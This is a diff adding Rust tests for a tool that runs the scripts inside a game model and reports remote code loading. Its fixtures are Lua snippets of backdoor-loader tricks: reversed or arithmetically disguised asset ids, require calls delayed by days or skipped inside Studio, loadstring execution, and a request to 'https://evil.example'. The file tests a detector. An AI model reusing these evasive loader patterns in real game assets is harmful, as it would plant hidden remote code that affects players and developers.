@@ -1,0 +1,134 @@
+//! Tests of what is seen when the scripts of a model run.
+
+use vector_place::Node;
+
+use super::*;
+
+/// A model with scripts, as a file that is read again.
+fn model(scripts: &[Script<'_>]) -> AssetModel {
+    let mut scene = Scene::empty(FileFormat::Xml);
+    let root = scene.root();
+    let model = scene.create(root, "Model", "Kit");
+    for script in scripts {
+        let node: Node = scene.create(model, script.class, script.name);
+        scene.set_source(node, script.text.to_owned());
+    }
+    AssetModel::read(&scene.encode().unwrap()).unwrap()
+}
+
+struct Script<'a> {
+    class: &'a str,
+    name: &'a str,
+    text: &'a str,
+}
+
+fn watch(scripts: &[Script<'_>]) -> Vec<String> {
+    let never: Rc<dyn Fn() -> bool> = Rc::new(|| false);
+    let limits = WatchLimits { real: Duration::from_secs(20), ..WatchLimits::default() };
+    let found = watch_model(&model(scripts), limits, &never).unwrap();
+    found.iter().map(|it| format!("{}: {it}", it.at)).collect()
+}
+
+fn watch_text(text: &str) -> Vec<String> {
+    watch(&[Script { class: "Script", name: "Main", text }])
+}
+
+#[test]
+fn decoded_number_is_named_at_the_call() {
+    let asset = |line: u32| {
+        format!("1: When run, line {line} requires the asset 7712345678, code from outside.")
+    };
+    let decode = "local text = ''\nfor c in ('8876543217'):reverse():gmatch('.') do text ..= c end\n\
+                  local id = tonumber(text) - 12345678 * 0 - (1234567888 - 7712345678 + 0)\n";
+    assert_eq!(
+        watch_text(&format!("{decode}require(7712345678 + 0 * id)")),
+        [asset(4)],
+        "a plain call"
+    );
+    for text in [
+        "pcall(require, 7712345678)",
+        "task.delay(86400 * 3, function() require(7712345678) end)",
+        "if not game:GetService('RunService'):IsStudio() then require(7712345678) end",
+        "if os.time() > 1800000000 then require(7712345678) end",
+        "game.Players.PlayerAdded:Connect(function() require(7712345678) end)",
+        "game.Players.PlayerAdded:Wait() require(7712345678)",
+        "if game.JobId ~= '' and game.PlaceId ~= 0 then require(7712345678) end",
+        "game:GetService('GroupService'):GetAlliesAsync(1) require(7712345678)",
+        "local n = 0 while task.wait(1) do n += 1 if n == 50 then require(7712345678) end end",
+    ] {
+        let found = watch_text(text);
+        assert!(found.contains(&asset(1)), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn texts_that_are_run_are_followed() {
+    let found = watch_text("loadstring('\\nrequire(' .. 77 .. ')')()");
+    assert_eq!(
+        found,
+        [
+            "1: When run, line 1 runs a text as code: \\nrequire(77)",
+            "1: When run, line 2 of a text that it runs requires the asset 77, code from outside.",
+        ]
+    );
+    let found = watch_text(
+        "local s = game:GetService('Http' .. 'Service')\nlocal t = s:GetAsync('https://evil.example')\n\
+         game:GetService('InsertService'):LoadAsset(5).Parent = workspace",
+    );
+    assert_eq!(
+        found,
+        [
+            "1: When run, line 2 sends a request to https://evil.example",
+            "1: When run, line 3 loads the asset 5 (LoadAsset).",
+        ]
+    );
+}
+
+#[test]
+fn scripts_that_do_not_end_hide_no_others() {
+    let payload = Script { class: "Script", name: "B", text: "require(7)" };
+    for text in
+        ["while true do end", "local t = {} while true do table.insert(t, ('x'):rep(1e6)) end"]
+    {
+        let first = Script { class: "Script", name: "A", text };
+        let last = Script { ..payload };
+        let found = watch(&[first, last]);
+        assert_eq!(
+            found,
+            ["2: When run, line 1 requires the asset 7, code from outside."],
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn ordinary_scripts_reach_nothing() {
+    for text in [
+        "local m = require(script.Parent.Module) m.start()",
+        "game.Players.PlayerAdded:Connect(function(p) Instance.new('Folder', p) end)",
+        "script.Parent:GetAttributeChangedSignal('X'):Connect(print)",
+        "game:GetService('TeleportService'):TeleportAsync(game.PlaceId, {})",
+        "print(game:GetService('HttpService'):JSONEncode({ 1 }))",
+    ] {
+        let module =
+            Script { class: "ModuleScript", name: "Module", text: "return { start = print }" };
+        let main = Script { class: "Script", name: "Main", text };
+        assert_eq!(watch(&[module, main]), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn values_of_the_model_are_there() {
+    let mut scene = Scene::empty(FileFormat::Binary);
+    let root = scene.root();
+    let kit = scene.create(root, "Model", "Kit");
+    let code = scene_schemas::Value::String("8765432177".to_owned());
+    scene.set_property(kit, "@Code", Some(&code)).unwrap();
+    let script = scene.create(kit, "Script", "Main");
+    let text = "require(tonumber(script.Parent:GetAttribute('Code'):reverse()))";
+    scene.set_source(script, text.to_owned());
+    let model = AssetModel::read(&scene.encode().unwrap()).unwrap();
+    let never: Rc<dyn Fn() -> bool> = Rc::new(|| false);
+    let found = watch_model(&model, WatchLimits::default(), &never).unwrap();
+    assert!(found.len() == 1 && found[0].value == "7712345678", "{found:?}");
+}
